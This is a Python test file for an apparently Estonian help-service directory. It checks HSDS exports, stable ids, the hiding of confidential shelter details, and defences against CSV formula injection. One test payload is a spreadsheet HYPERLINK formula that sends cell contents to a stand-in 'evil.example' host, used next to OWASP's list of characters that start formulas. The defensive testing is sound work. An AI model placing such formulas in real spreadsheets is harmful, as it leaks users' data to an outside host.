"""Exports: HSDS 3.0 that Open Referral's own schemas accept, stable ids, and nothing private in any output."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import uuid
from collections.abc import Iterator
from functools import lru_cache
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st
from jsonschema import Draft202012Validator, FormatChecker

from abikaart import export
from abikaart.cli import main
from abikaart.directory import Directory, load_directory
from abikaart.models import LANGS
from helpers import (
    DIRECTORY,
    INTERNAL_NOTE,
    REPO,
    SHELTER_FRONT_DOOR,
    SHELTER_STREET,
    UNVERIFIED_NUMBER,
    assert_no_confidential,
    make_directory,
)

HSDS = Path(__file__).resolve().parent / "data" / "hsds-3.0"
"""Open Referral's compiled HSDS 3.0 service schema, vendored with its licence (see its README.md)."""


@pytest.fixture(scope="module")
def shelter(tmp_path_factory: pytest.TempPathFactory) -> Directory:
    return make_directory(tmp_path_factory.mktemp("data") / "directory")


@pytest.fixture(scope="module")
def bundled() -> Directory:
    result = load_directory(DIRECTORY)
    assert result.directory is not None
    return result.directory


@lru_cache(maxsize=1)
def _validator() -> Draft202012Validator:
    """A validator for Open Referral's compiled service schema: self-contained, so nothing is fetched."""
    schema = json.loads((HSDS / "compiled" / "service.json").read_text(encoding="utf-8"))
    Draft202012Validator.check_schema(schema)
    return Draft202012Validator(schema, format_checker=FormatChecker())


def _objects(value: Any) -> Iterator[dict[str, Any]]:
    if isinstance(value, dict):
        yield value
        for item in value.values():
            yield from _objects(item)
    elif isinstance(value, list):
        for item in value:
            yield from _objects(item)


# HSDS -------------------------------------------------------------------------------------------------------


def _schema_errors(record: dict[str, Any]) -> list[str]:
    return [f"{'/'.join(map(str, e.absolute_path))}: {e.message}" for e in _validator().iter_errors(record)]


@pytest.mark.parametrize("which", ["shelter", "bundled"])
def test_written_hsds_files_validate_against_open_referral_compiled_schema(
    which: str, request: pytest.FixtureRequest, tmp_path: Path
) -> None:
    """Each hsds-<lang>.json as written to disk, every service and its nested organization, phones, schedules,
    locations and terms, is what Open Referral's schema accepts."""
    directory: Directory = request.getfixturevalue(which)
    written = export.write_exports(directory, tmp_path, formats=("hsds",))
    assert sorted(path.name for path in written) == sorted(f"hsds-{lang}.json" for lang in LANGS)
    for path in written:
        services = json.loads(path.read_text(encoding="utf-8"))
        assert len(services) == len(directory.services) > 0
        for service in services:
            assert service["organization"]["name"], path.name
            errors = _schema_errors(service)
            assert not errors, f"{path.name}: {service['name']}: {errors}"


@pytest.mark.parametrize(("breakage", "where"), [
    pytest.param(lambda s: s.update(id="not-a-uuid"), "id", id="id-not-a-uuid"),
    pytest.param(lambda s: s.update(status="closed"), "status", id="status-not-in-enum"),
    pytest.param(lambda s: s.pop("name"), "", id="name-missing"),
    pytest.param(lambda s: s["organization"].pop("name"), "organization", id="organization-name-missing"),
    pytest.param(lambda s: s["phones"][0].pop("number"), "phones/0", id="phone-number-missing"),
    pytest.param(lambda s: s["schedules"][0].update(byday=7), "schedules/0/byday", id="byday-not-text"),
    pytest.param(lambda s: s["service_at_locations"][0]["location"].update(latitude="north"),
                 "service_at_locations/0/location/latitude", id="latitude-not-a-number"),
])
def test_the_schema_check_rejects_what_open_referral_rejects(
    shelter: Directory, breakage: Any, where: str
) -> None:
    """The vendored schema is live down to nested objects, or the test above would prove nothing."""
    [record] = [s for s in export.to_hsds(shelter, "en") if s["name"] == "Shelter"]
    assert _schema_errors(record) == []
    broken = json.loads(json.dumps(record))
    breakage(broken)
    errors = _schema_errors(broken)
    assert errors and all(error.startswith(where) for error in errors), errors


def test_the_vendored_schema_is_open_referrals_file_unchanged() -> None:
    """Its README names the upstream commit and checksum, and the licence travels with it."""
    readme = (HSDS / "README.md").read_text(encoding="utf-8")
    digest = hashlib.sha256((HSDS / "compiled" / "service.json").read_bytes()).hexdigest()
    assert f"sha256 `{digest}`" in readme
    assert "Attribution-ShareAlike 4.0" in (HSDS / "LICENSE").read_text(encoding="utf-8")


def test_hsds_is_in_the_language_asked_for(bundled: Directory) -> None:
    service = bundled.services["ohvriabi-kriisitelefon"]
    for lang in LANGS:
        [record] = [s for s in export.to_hsds(bundled, lang) if s["id"] == export.uid("service", service.id)]
        assert record["name"] == service.name.get(lang)
        assert record["organization"]["name"] == bundled.organisation(service).name.get(lang)
        assert {term["taxonomy_term"]["language"] for term in record["attributes"]} == {lang}


def test_hsds_ids_are_uuid5_of_our_ids_and_never_change(bundled: Directory) -> None:
    services = export.to_hsds(bundled, "et")
    assert services == export.to_hsds(bundled, "et")
    by_id = {service["id"]: service for service in services}
    expected = str(uuid.uuid5(export.NAMESPACE, "service/ohvriabi-kriisitelefon"))
    # Pinned: these ids are published; a change here breaks everyone who imported them.
    assert expected == "ceebe8ed-52ee-58f0-9522-c597dde51029"
    assert by_id[expected]["name"] == bundled.services["ohvriabi-kriisitelefon"].name.get("et")
    assert len(by_id) == len(bundled.services)
    ids_across_languages = [{s["id"] for s in export.to_hsds(bundled, lang)} for lang in LANGS]
    assert ids_across_languages[0] == ids_across_languages[1] == ids_across_languages[2]


@pytest.mark.parametrize("which", ["shelter", "bundled"])
def test_hsds_ids_are_distinct_for_distinct_things(which: str, request: pytest.FixtureRequest) -> None:
    """The same id may appear twice only for the same thing (an organisation nested under two services)."""
    directory: Directory = request.getfixturevalue(which)
    seen: dict[str, dict[str, Any]] = {}
    for record in _objects(export.to_hsds(directory, "en")):
        if "id" not in record:
            continue
        uuid.UUID(record["id"])
        assert seen.setdefault(record["id"], record) == record, f"two different objects share {record['id']}"
    assert len(seen) > len(directory.services)


def test_hsds_schedules_follow_the_opening_hours(shelter: Directory) -> None:
    [counselling] = [s for s in export.to_hsds(shelter, "en") if s["name"] == "Counselling in Tartu"]
    schedules = {(s["description"], s.get("byday"), s.get("opens_at"), s.get("closes_at"))
                 for s in counselling["schedules"]}
    assert schedules == {
        ("Mo-Fr 09:00-17:00; PH off", "MO,TU,WE,TH,FR", "09:00", "17:00"),
        ("Mo,We 10:00-12:00,13:00-15:00", "MO,WE", "10:00", "12:00"),
        ("Mo,We 10:00-12:00,13:00-15:00", "MO,WE", "13:00", "15:00"),
        # Seasonal hours are not one weekly pattern: only the text is given.
        ("Jun-Aug Mo-Fr 10:00-14:00", None, None, None),
    }
    [shelter_service] = [s for s in export.to_hsds(shelter, "en") if s["name"] == "Shelter"]
    [always] = shelter_service["schedules"]
    assert (always["byday"], always["opens_at"], always["closes_at"]) == ("MO,TU,WE,TH,FR,SA,SU", "00:00", "23:59")


def test_hsds_carries_areas_languages_terms_and_costs(shelter: Directory) -> None:
    [record] = [s for s in export.to_hsds(shelter, "en") if s["name"] == "Shelter"]
    assert [area["name"] for area in record["service_areas"]] == ["Harju County"]
    assert [(language["name"], language["code"]) for language in record["languages"]] == [
        ("Estonian", "et"), ("Russian", "ru")]
    terms = {(a["link_type"], a["taxonomy_term"]["code"]) for a in record["attributes"]}
    assert terms == {("need", "domestic-violence"), ("need", "safe-accommodation"), ("audience", "victims"),
                     ("audience", "women")}
    assert record["cost_options"][0]["amount"] == 0
    assert record["fees_description"] == "Free"
    assert [phone["number"] for phone in record["phones"]] == ["+372 5123 4567"]
    [place] = record["service_at_locations"]
    assert place["location"]["description"] == "Call 5123 4567; we meet you in front of the Baltic station"
    assert "addresses" not in place["location"] and "latitude" not in place["location"]


def test_public_location_keeps_its_address(shelter: Directory) -> None:
    [record] = [s for s in export.to_hsds(shelter, "et") if s["name"] == "Nõustamine Tartus"]
    [place] = record["service_at_locations"]
    assert place["location"]["addresses"][0]["address_1"] == "Avalik tänav 1"
    assert place["location"]["latitude"] == 58.3776


# Nothing private in any output --------------------------------------------------------------------------------


def _outputs(directory: Directory) -> Iterator[tuple[str, str]]:
    yield "json", json.dumps(export.to_json(directory), ensure_ascii=False)
    for lang in LANGS:
        yield f"csv-{lang}", export.to_csv(directory, lang)
        yield f"hsds-{lang}", json.dumps(export.to_hsds(directory, lang), ensure_ascii=False)


def test_no_output_publishes_a_confidential_address_an_unverified_contact_or_an_internal_note(
    shelter: Directory,
) -> None:
    outputs = dict(_outputs(shelter))
    assert len(outputs) == 7
    for name, text in outputs.items():
        assert_no_confidential(text, shelter)
        assert "internal_note" not in text and "to_verify" not in text and "verified_by" not in text, name
    # The shelter is still reachable: its front door is in every output.
    assert SHELTER_FRONT_DOOR in outputs["json"] and SHELTER_FRONT_DOOR in outputs["csv-et"]
    assert SHELTER_FRONT_DOOR in outputs["hsds-et"]


def test_written_files_hold_no_secrets(shelter: Directory, tmp_path: Path) -> None:
    written = export.write_exports(shelter, tmp_path)
    assert sorted(path.name for path in written) == sorted(
        ["abikaart.json", *(f"abikaart-{lang}.csv" for lang in LANGS), *(f"hsds-{lang}.json" for lang in LANGS)])
    for path in written:
        assert_no_confidential(path.read_text(encoding="utf-8-sig"), shelter)


def test_the_secret_check_catches_leaks(shelter: Directory) -> None:
    """assert_no_confidential must fail on each kind of secret, or the tests above prove nothing."""
    digits = UNVERIFIED_NUMBER.replace(" ", "")
    for leak in (SHELTER_STREET, "59.123456", "24.654", "10999", UNVERIFIED_NUMBER, digits, UNVERIFIED_NUMBER[5:],
                 f"tel:{digits[4:]}", INTERNAL_NOTE,
                 "kontrollimata@varjupaik.example.ee"):
        with pytest.raises(AssertionError) as failure:
            assert_no_confidential(f"<p>{leak}</p>", shelter)
        assert leak not in str(failure.value), "the failure message must not repeat the secret"
    assert_no_confidential("+372 5123 4567 is published, Tallinn is a city", shelter)


def test_bundled_exports_are_public_too(bundled: Directory) -> None:
    for _, text in _outputs(bundled):
        assert_no_confidential(text, bundled)


# Our JSON and CSV ---------------------------------------------------------------------------------------------


def test_json_has_every_service_and_only_verified_contacts(shelter: Directory) -> None:
    data = export.to_json(shelter)
    services = {s["id"]: s for org in data["organisations"] for s in org["services"]}
    assert set(services) == set(shelter.services)
    assert [c["type"] for c in services["turvakodu-varjupaik"]["channels"]] == ["phone", "in-person"]
    [organisation] = data["organisations"]
    assert [phone["number"] for phone in organisation["phones"]] == ["+372 5123 4567"]
    confidential, public = organisation["locations"]
    assert set(confidential) == {"id", "name", "confidential", "front_door"}
    assert public["address"]["address_1"] == "Avalik tänav 1"
    assert set(data["taxonomies"]) == {"needs", "audiences", "counties", "channels", "languages"}


def _csv_rows(text: str) -> list[dict[str, str]]:
    """The CSV as a program reads it: the csv module, then one leading apostrophe dropped from each cell."""
    return [{key: export.csv_value(value) for key, value in row.items()} for row in csv.DictReader(io.StringIO(text))]


def test_csv_has_one_row_per_service_in_the_language(shelter: Directory) -> None:
    rows = _csv_rows(export.to_csv(shelter, "ru"))
    assert [row["id"] for row in rows] == ["turvakodu-varjupaik", "turvakodu-noustamine", "turvakodu-tugigrupp"]
    first = rows[0]
    assert first["organisation"] == "НКО Безопасный дом"
    assert first["name"] == "Приют"
    assert first["description"] == "Turvaline majutus lähisuhtevägivalla eest põgenejatele."  # Estonian fallback
    assert first["counties"] == "Харьюмаа"
    assert first["phone"] == "+372 5123 4567"
    assert first["email"] == ""
    assert first["always_open"] == "true"
    assert rows[2]["counties"] == "По всей Эстонии"  # the sites' word for it (strings.yaml `nationwide`)
    assert rows[2]["video"] == "https://turvakodu.example.ee/video"
    assert rows[1]["hours"].count(" | ") == 2


# CSV injection (OWASP): no cell a spreadsheet would run --------------------------------------------------------

FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Click")'


def _formula_like(cell: str) -> bool:
    """What a spreadsheet may read as a formula: a first character (after spaces) in OWASP's list."""
    return cell.lstrip(" ")[:1] in {"=", "+", "-", "@", "\t", "\r", "\n", "\0"}


@pytest.mark.parametrize(("value", "cell"), [
    ("+372 5123 4567", "'+372 5123 4567"),
    (FORMULA, "'" + FORMULA),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("-2+3", "'-2+3"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("  =1+1", "'  =1+1"),
    ("'quoted'", "''quoted'"),  # so that dropping one apostrophe always gives the value back
    ("116 006", "116 006"),
    ("Tallinn, Pärnu mnt 1", "Tallinn, Pärnu mnt 1"),
    ("a=b; c+d", "a=b; c+d"),
    ("", ""),
])
def test_csv_cell_marks_formula_starts_as_text(value: str, cell: str) -> None:
    assert export.csv_cell(value) == cell
    assert export.csv_value(cell) == value


@given(st.text())
def test_csv_cell_never_starts_a_formula_and_loses_nothing(value: str) -> None:
    cell = export.csv_cell(value)
    assert not _formula_like(cell)
    assert export.csv_value(cell) == value


def test_csv_export_never_starts_a_cell_with_a_formula(tmp_path: Path) -> None:
    """Formulas typed into data text and every phone number are written as text, and read back unchanged."""
    make_directory(tmp_path / "directory")
    service = tmp_path / "directory" / "services" / "turvakodu-tugigrupp.yaml"
    hostile = (service.read_text(encoding="utf-8")
               .replace("name: {et: Tugigrupp, en: Support group}", f"name: {{et: '{FORMULA}', en: '@SUM(1+1)'}}")
               .replace("description: {et: Tugigrupp vägivalla kogenutele.,",
                        "description: {et: '-2+3 tugigrupp',"))
    assert hostile.count("=HYPERLINK") == hostile.count("@SUM") == hostile.count("-2+3") == 1
    service.write_text(hostile, encoding="utf-8")
    directory = load_directory(tmp_path / "directory").directory
    assert directory is not None
    written = export.write_exports(directory, tmp_path / "out", formats=("csv",))
    assert len(written) == len(LANGS)
    for path in written:
        raw = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
        risky = [(line, cell) for line, row in enumerate(raw, start=1) for cell in row if _formula_like(cell)]
        assert risky == [], f"{path.name}: cells a spreadsheet would run: {risky}"
        rows = _csv_rows(path.read_text(encoding="utf-8-sig"))
        [group] = [row for row in rows if row["id"] == "turvakodu-tugigrupp"]
        lang = path.stem.removeprefix("abikaart-")
        expected = ("@SUM(1+1)", "A support group for survivors.") if lang == "en" else (FORMULA, "-2+3 tugigrupp")
        assert (group["name"], group["description"]) == expected  # Russian falls back to Estonian
        [shelter_row] = [row for row in raw[1:] if row[0] == "turvakodu-varjupaik"]
        assert shelter_row[CSV_PHONE] == "'+372 5123 4567"


CSV_PHONE = export.CSV_COLUMNS.index("phone")


# CLI ---------------------------------------------------------------------------------------------------------


def test_cli_prints_one_format(shelter: Directory) -> None:
    result = CliRunner().invoke(main, ["export", str(shelter.root), "--format", "hsds", "--lang", "ru"])
    assert result.exit_code == 0, result.output
    services = json.loads(result.stdout)
    assert {service["name"] for service in services} >= {"Приют"}
    assert_no_confidential(result.output, shelter)


def test_cli_writes_every_file(shelter: Directory, tmp_path: Path) -> None:
    result = CliRunner().invoke(main, ["export", str(shelter.root), "--out", str(tmp_path / "out")])
    assert result.exit_code == 0, result.output
    assert len(list((tmp_path / "out").iterdir())) == 7
    result = CliRunner().invoke(main, ["export", str(shelter.root), "--format", "csv", "--lang", "en",
                                       "--out", str(tmp_path / "csv")])
    assert [path.name for path in (tmp_path / "csv").iterdir()] == ["abikaart-en.csv"]


def test_cli_all_formats_need_a_folder(shelter: Directory) -> None:
    result = CliRunner().invoke(main, ["export", str(shelter.root)])
    assert result.exit_code == 2
    assert "--out" in result.output


def test_cli_writes_nothing_from_broken_data(tmp_path: Path) -> None:
    make_directory(tmp_path / "directory")
    broken = tmp_path / "directory" / "services" / "turvakodu-tugigrupp.yaml"
    broken.write_text(broken.read_text().replace("counties: [nationwide]", "counties: [narnia]"))
    result = CliRunner().invoke(main, ["export", str(tmp_path / "directory"), "--out", str(tmp_path / "out")])
    assert result.exit_code == 1
    assert "narnia" in result.output
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize("page", ["open-data.md", "open-data.ru.md", "open-data.en.md"])
def test_open_data_page_documents_the_apostrophe_as_the_code_writes_it(page: str) -> None:
    """Partners read how to get values back on the open-data page: it must match what `csv_cell` does."""
    text = (REPO / "docs" / page).read_text(encoding="utf-8")
    assert f"`{export.csv_cell('+372 5123 4567')}`" in text
    assert f"value.removeprefix(\"{export.CSV_TEXT_MARK}\")" in text
    assert all(f"`{mark}`" in text for mark in ("=", "+", "-", "@"))
